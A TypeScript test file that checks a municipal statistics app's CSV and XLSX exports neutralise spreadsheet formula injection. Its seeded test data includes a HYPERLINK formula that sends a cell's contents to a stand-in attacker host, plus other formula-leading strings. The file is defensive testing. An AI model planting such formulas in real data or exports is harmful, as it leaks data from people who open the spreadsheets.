import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { beforeAll, describe, expect, it } from 'vitest';
import { Session } from '../../../test/app.ts';
import { t, fx, withStatisticsWorld } from './statisticsWorld.ts';

withStatisticsWorld();

/** Text anyone can type (a citizen, a unit admin naming a unit) that a spreadsheet would run as a formula. */
const EVIL = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")';

beforeAll(async () => {
  const a = fx.cases.A!;
  await t.db.updateTable('cases').set({ description: EVIL }).where('id', '=', a.id).execute();
  await t.db.updateTable('case_contacts').set({ name: '@SUM(1+1)', phone: '+46 70 123 45 67' }).where('case_id', '=', a.id).execute();
  await t.db.updateTable('org_units').set({ name: '-2+3 Barn och utbildning' }).where('organization_id', '=', t.orgId).where('name', '=', 'Barn och utbildning').execute();
});

const cellsOf = (ws: ExcelJS.Worksheet) => (ws.getSheetValues() as unknown[][]).flatMap((r) => (r ?? []).filter((v): v is string => typeof v === 'string'));
const formulaLike = (cells: string[]) => cells.filter((c) => /^[=+\-@\t\r]/.test(c));

describe('exports open safely in a spreadsheet', () => {
  it('neutralises formula-like text in the case list, as CSV and as XLSX', async () => {
    const admin = await new Session(t.app).signIn('admin@exempelkommun.se');
    const csv = await admin.get('/statistik/arenden?fran=2026-01&till=2026-12&format=csv&personuppgifter=ja');
    expect(csv.statusCode).toBe(200);
    const ws = await new ExcelJS.Workbook().csv.read(Readable.from(csv.rawPayload.subarray(3)), { parserOptions: { delimiter: ';' } });
    const cells = cellsOf(ws);
    expect(cells).toContain(`'${EVIL}`);
    expect(cells).toContain(`'@SUM(1+1)`);
    expect(cells).toContain(`'+46 70 123 45 67`);
    expect(cells).toContain(`'-2+3 Barn och utbildning`);
    expect(formulaLike(cells)).toEqual([]);

    const xlsx = await admin.get('/statistik/arenden?fran=2026-01&till=2026-12&format=xlsx&personuppgifter=ja');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const xcells = cellsOf(book.getWorksheet('Ärenden')!);
    expect(xcells).toContain(`'${EVIL}`);
    expect(formulaLike(xcells)).toEqual([]);
  });

  it('neutralises them in the statistics tables, as CSV and as XLSX', async () => {
    const admin = await new Session(t.app).signIn('admin@exempelkommun.se');
    const xlsx = await admin.get('/statistik/export.xlsx?tabell=alla&fran=2026-01&till=2026-12');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const all = book.worksheets.flatMap(cellsOf);
    expect(all).toContain(`'-2+3 Barn och utbildning`);
    expect(formulaLike(all)).toEqual([]);

    const page = await admin.get('/statistik?fran=2026-01&till=2026-12');
    const ids = [...new Set([...page.body.matchAll(/export\.csv\?tabell=([a-z0-9-]+)/g)].map((m) => m[1]!))];
    expect(ids.length).toBeGreaterThan(3);
    let seen = false;
    for (const id of ids) {
      const csv = await admin.get(`/statistik/export.csv?tabell=${id}&fran=2026-01&till=2026-12`);
      const cells = cellsOf(await new ExcelJS.Workbook().csv.read(Readable.from(csv.rawPayload.subarray(3)), { parserOptions: { delimiter: ';' } }));
      seen ||= cells.includes(`'-2+3 Barn och utbildning`);
      expect(formulaLike(cells), id).toEqual([]);
    }
    expect(seen).toBe(true);
  });
});
